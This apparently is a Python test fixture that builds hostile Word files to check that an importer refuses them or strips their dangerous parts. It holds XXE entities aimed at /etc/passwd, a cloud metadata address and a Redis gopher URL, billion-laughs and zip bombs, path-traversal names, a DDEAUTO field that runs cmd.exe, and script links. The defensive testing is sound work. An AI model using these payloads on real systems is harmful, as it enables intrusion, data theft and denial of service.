"""Word files that are built to harm, each made here; and what must become of them."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache

from tests.hostile import pictures
from tests.unit.importing.word_files import (
    HOUSE,
    STYLES,
    TYPES,
    docx,
    drawing,
    p,
    packed,
    part,
    parts,
    r,
    refers,
    relations,
    t,
)

METADATA = "http://169.254.169.254/latest/meta-data/"
OUTSIDE = (
    "http://attacker.example/x",
    METADATA,
    "file:///etc/passwd",
    "\\\\attacker.example\\share\\x",
    "ftp://x/y",
)
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


@dataclass(frozen=True)
class HostileWord:
    """`refused`: not opened. Otherwise its words may be taken, and nothing that leads outside or runs."""

    make: Callable[[], bytes]
    refused: bool = True


def house(body: str = "", *entries: object, more: Mapping[str, str | bytes] | None = None) -> bytes:
    """A file in the house layout with something more in it."""
    return docx(t(*HOUSE) + body, *entries, more=more)


def with_part(name: str, content: str | bytes) -> bytes:
    return packed({**parts(t(*HOUSE)), name: content})


def typed(types: str) -> bytes:
    return packed({**parts(t(*HOUSE)), "[Content_Types].xml": types})


def _laughs(levels: int = 9) -> str:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "lol"}">' for n in range(levels))
    return f"<?xml version='1.0'?><!DOCTYPE a [{entities}]><a>&e{levels - 1};</a>"


def _quadratic() -> str:
    return f"<!DOCTYPE a [<!ENTITY b '{'x' * 50_000}'>]><a>{'&b;' * 20_000}</a>"


def _entities(target: str) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "{target}">]><a>&x;</a>'


def bomb(megabytes: int, name: str = "word/media/image1.png", most: int = 25) -> bytes:
    """A file with so many megabytes of zeros in members of `most` each."""
    out = io.BytesIO(packed(parts(t(*HOUSE))))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for number in range(0, megabytes, most):
            with archive.open(name.replace("1", str(number), 1), "w") as member:
                for _ in range(most):
                    member.write(bytes(1_000_000))
    return out.getvalue()


def nested(depth: int = 6) -> bytes:
    data = zlib.compress(bytes(5_000_000))
    for level in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(8):
                archive.writestr(f"{level}-{number}.zip", data)
        data = out.getvalue()
    return with_part("word/embeddings/package.zip", data)


def claiming_less() -> bytes:
    """A part that unpacks to more than the directory says."""
    whole = b"<a>" + b" " * 3_000_000 + b"</a>"
    data = bytearray(packed({**parts(t(*HOUSE)), "word/zz.xml": whole}))
    entry = data.rfind(b"PK\x01\x02")
    data[entry + 16 : entry + 20] = struct.pack("<L", zlib.crc32(whole[:100]))
    data[entry + 24 : entry + 28] = struct.pack("<L", 100)
    return bytes(data)


def locked() -> bytes:
    data = bytearray(house())
    data[data.find(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def twice() -> bytes:
    out = io.BytesIO(house())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/Document.xml", "<a/>")
    return out.getvalue()


def many_notes(number: int) -> bytes:
    """So many notes, all referred to from one paragraph."""
    notes = "".join(f'<w:footnote w:id="{n}">{p(r("A note."))}</w:footnote>' for n in range(2, number + 2))
    references = "".join(refers("footnote", n) for n in range(2, number + 2))
    entry = ("rIdN", "footnotes", "footnotes.xml")
    return house(p(r("Text") + references), entry, more={"word/footnotes.xml": part("footnotes", notes)})


def tables_in_tables(depth: int) -> bytes:
    inside = p(r("The innermost cell."))
    for _ in range(depth):
        inside = f"<w:tbl><w:tr><w:tc>{inside}{p()}</w:tc></w:tr></w:tbl>"
    return house(inside)


def field(instruction: str) -> str:
    """A complex field, as Word writes it."""
    return p(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + r("shown words")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def linked(kind: str, target: str, body: str = "") -> bytes:
    """A relationship of the document that leads outside."""
    return house(body, ("rIdOut", kind, target, "External"))


def link_to(target: str) -> bytes:
    body = p(f'<w:hyperlink r:id="rIdOut">{r("follow me")}</w:hyperlink>')
    return linked("hyperlink", target.replace('"', "&quot;"), body)


def image_of(data: bytes, name: str = "image1.png") -> bytes:
    """A picture in the file that is something else."""
    return house(p(drawing("rIdP")), ("rIdP", "image", f"media/{name}"), more={f"word/media/{name}": data})


def _template() -> bytes:
    away = relations(*((f"rId{n}", "attachedTemplate", one, "External") for n, one in enumerate(OUTSIDE)))
    more = {"word/settings.xml": part("settings", ""), "word/_rels/settings.xml.rels": away}
    return house("", ("rIdS", "settings", "settings.xml"), more=more)


def _html_part() -> bytes:
    more = {
        "word/chunk.html": "<html><script>window.__xss=1</script><img src=x onerror=window.__xss=1>words</html>"
    }
    return house('<w:altChunk r:id="rIdA"/>', ("rIdA", "aFChunk", "chunk.html"), more=more)


def _vml() -> bytes:
    shape = f'<w:r><w:pict><v:shape><v:imagedata r:id="rIdOut" src="{METADATA}"/></v:shape></w:pict></w:r>'
    return linked("image", METADATA, p(shape))


_MAIN = "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

STRUCTURE: dict[str, HostileWord] = {
    "nothing": HostileWord(lambda: b""),
    "half a file": HostileWord(lambda: house()[:1200]),
    "zip of other things": HostileWord(pictures.zipped),
    "old format": HostileWord(lambda: OLE2),
    "locked with a password": HostileWord(lambda: OLE2 + "EncryptedPackage".encode("utf-16-le")),
    "locked parts": HostileWord(locked),
    "rich text": HostileWord(lambda: b"{\\rtf1\\ansi{\\object\\objupdate\\objautlink}}"),
    "web page": HostileWord(lambda: b"<html><script>window.__xss=1</script>"),
    "pdf": HostileWord(lambda: b"%PDF-1.7\n/JavaScript"),
    "picture": HostileWord(lambda: pictures.picture("PNG")),
    "workbook by its type": HostileWord(lambda: typed(TYPES.replace("wordprocessingml.document", "spreadsheetml.sheet"))),
    "no types": HostileWord(lambda: typed("")),
    "macros": HostileWord(lambda: with_part("word/vbaProject.bin", OLE2)),
    "macros by type": HostileWord(lambda: typed(TYPES.replace(_MAIN, "vnd.ms-word.document.macroEnabled.main+xml"))),
    "macros called otherwise": HostileWord(
        lambda: packed({
            **parts(t(*HOUSE)), "word/harmless.bin": OLE2,
            "[Content_Types].xml": TYPES.replace(
                "</Types>",
                '<Override PartName="/word/harmless.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            ),
        })
    ),
    "a control": HostileWord(lambda: with_part("word/activeX/activeX1.bin", OLE2)),
    "a program": HostileWord(lambda: with_part("word/embeddings/oleObject1.bin", OLE2)),
    "a program by its ending": HostileWord(lambda: with_part("word/media/photo.exe", b"MZ")),
    "a script": HostileWord(lambda: with_part("word/media/photo.js", b"1")),
    "a name that goes up": HostileWord(lambda: with_part("../../etc/cron.d/x", b"x")),
    "a name that goes up in the middle": HostileWord(lambda: with_part("word/../../x.xml", b"<a/>")),
    "an absolute name": HostileWord(lambda: with_part("/etc/passwd", b"x")),
    "a name with a backslash": HostileWord(lambda: with_part("..\\x.xml", b"<a/>")),
    "a name with a drive": HostileWord(lambda: with_part("C:x.xml", b"<a/>")),
    "a name twice": HostileWord(twice),
    "a name of a thousand letters": HostileWord(lambda: with_part(f"word/{'x' * 1000}.xml", b"<a/>")),
    "three thousand parts": HostileWord(
        lambda: packed({**parts(t(*HOUSE)), **{f"word/media/{n}.png": b"" for n in range(3000)}})
    ),
    "nested too deeply": HostileWord(lambda: with_part("word/document.xml", "<a>" * 5000 + "</a>" * 5000)),
    "not well-formed": HostileWord(lambda: with_part("word/document.xml", "<w:document><w:body>")),
    "letters that are none": HostileWord(lambda: with_part("word/document.xml", b"<a>\xff\xfe\xed\xa0\x80</a>")),
}  # fmt: skip

ENTITIES: dict[str, HostileWord] = {
    **{
        f"entity in {where} for {target}": HostileWord(
            lambda where=where, target=target: with_part(where, _entities(target))
        )
        for where, target in (
            ("word/document.xml", "file:///etc/passwd"),
            ("word/styles.xml", METADATA),
            ("word/footnotes.xml", "http://127.0.0.1:1/"),
            ("word/_rels/document.xml.rels", "file:///dev/zero"),
            ("[Content_Types].xml", "http://attacker.example/x.dtd"),
            ("docProps/core.xml", "file:///proc/self/environ"),
            ("customXml/item1.xml", "gopher://127.0.0.1:6379/_FLUSHALL"),
        )
    },
    "a billion laughs": HostileWord(lambda: with_part("word/document.xml", _laughs())),
    "a billion laughs in utf-16": HostileWord(
        lambda: with_part(
            "word/document.xml", _laughs().replace("<?xml version='1.0'?>", "").encode("utf-16")
        )
    ),
    "entities that square": HostileWord(lambda: with_part("word/styles.xml", _quadratic())),
    "an outer document type": HostileWord(
        lambda: with_part("word/document.xml", f'<!DOCTYPE a SYSTEM "{METADATA}"><a/>')
    ),
    "a parameter entity": HostileWord(
        lambda: with_part("word/document.xml", f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{METADATA}"> %x;]><a/>')
    ),
    "an entity in utf-7": HostileWord(
        lambda: with_part(
            "word/document.xml", '<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE a+AD4APA-a/+AD4-'
        )
    ),
}

BOMBS: dict[str, HostileWord] = {
    "a picture of 600 MB": HostileWord(lambda: bomb(600, most=600)),
    "pictures of 600 MB": HostileWord(lambda: bomb(600)),
    "text of 200 MB": HostileWord(lambda: bomb(200, "word/x1.xml", most=10)),
    "a part that says it is small": HostileWord(claiming_less),
    "a million elements": HostileWord(
        lambda: with_part("word/numbering.xml", f"<a>{'<b/>' * 1_300_000}</a>")
    ),
    "300,000 paragraphs": HostileWord(lambda: house(p(r("x")) * 300_000), refused=False),
    "100,000 notes": HostileWord(lambda: many_notes(100_000)),
    "tables in tables": HostileWord(lambda: tables_in_tables(60), refused=False),
    "styles that go round": HostileWord(
        lambda: with_part("word/styles.xml", STYLES.replace(
            "</w:styles>",
            '<w:style w:type="paragraph" w:styleId="A"><w:name w:val="A"/><w:basedOn w:val="B"/></w:style>'
            '<w:style w:type="paragraph" w:styleId="B"><w:name w:val="B"/><w:basedOn w:val="A"/></w:style></w:styles>',
        ).replace('<w:name w:val="Normal"/>', '<w:name w:val="Normal"/><w:basedOn w:val="A"/>')),
        refused=False,
    ),
    "zips in zips": HostileWord(nested, refused=False),
    "one paragraph of 900,000 letters": HostileWord(lambda: house(p(r("word " * 180_000))), refused=False),
    "a word of 900,000 letters": HostileWord(lambda: house(p(r("x" * 900_000))), refused=False),
}  # fmt: skip

OUTSIDE_FILES: dict[str, HostileWord] = {
    "templates elsewhere": HostileWord(_template, refused=False),
    **{
        f"a linked {kind} at {target}": HostileWord(
            lambda kind=kind, target=target: linked(kind, target, p(drawing("rIdOut")) if kind == "image" else ""),
            refused=False,
        )
        for kind, target in (
            ("image", METADATA), ("image", "file:///etc/passwd"), ("oleObject", "http://attacker.example/x.hta"),
            ("subDocument", "file:///etc/passwd"), ("frame", METADATA), ("aFChunk", METADATA),
            ("attachedToolbars", METADATA), ("mailMergeSource", "file:///etc/passwd"),
        )
    },
    **{
        f"a link to {target}": HostileWord(lambda target=target: link_to(target), refused=False)
        for target in (
            "javascript:window.__xss=1", "data:text/html,&lt;script&gt;window.__xss=1&lt;/script&gt;", "file:///etc/passwd",
            "vbscript:msgbox(1)", "ms-msdt:/id", "//attacker.example/x", "\\\\attacker.example\\x",
        )
    },
    "a field that loads": HostileWord(lambda: house(field(f'INCLUDEPICTURE "{METADATA}" \\d')), refused=False),
    "a field that runs": HostileWord(
        lambda: house(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), refused=False
    ),
    "a field that links": HostileWord(
        lambda: house(field('HYPERLINK "javascript:window.__xss=1"')), refused=False
    ),
    "a web page inside": HostileWord(_html_part, refused=False),
    "a drawing that loads": HostileWord(_vml, refused=False),
    "words that are markup": HostileWord(
        lambda: house(p(r("<script>window.__xss=1</script><img src=x onerror=window.__xss=1>{{7*7}}"))),
        refused=False,
    ),
    "marks of our own": HostileWord(lambda: house(p(r("\ufdd0ar\ufdd1turned\ufdd2 \ufdd3title\ufdd1x"))), refused=False),
}  # fmt: skip

PICTURES_INSIDE: dict[str, HostileWord] = {
    f"with the picture “{name}”": HostileWord(
        lambda name=name: image_of(pictures.made(name)), refused=False
    )
    for name in (
        "svg", "svg with entities", "eps", "html", "windows program", "animated png", "png of 60,000 × 60,000",
        "jpeg of 5,000 scans", "jpeg of a million pieces", "jpeg with words everywhere", "png whose text unpacks to 80 MB",
    )
}  # fmt: skip

WORD_FILES: dict[str, HostileWord] = STRUCTURE | ENTITIES | BOMBS | OUTSIDE_FILES | PICTURES_INSIDE


@cache
def made(name: str) -> bytes:
    """The bytes of one of `WORD_FILES`, made once in a process."""
    return WORD_FILES[name].make()
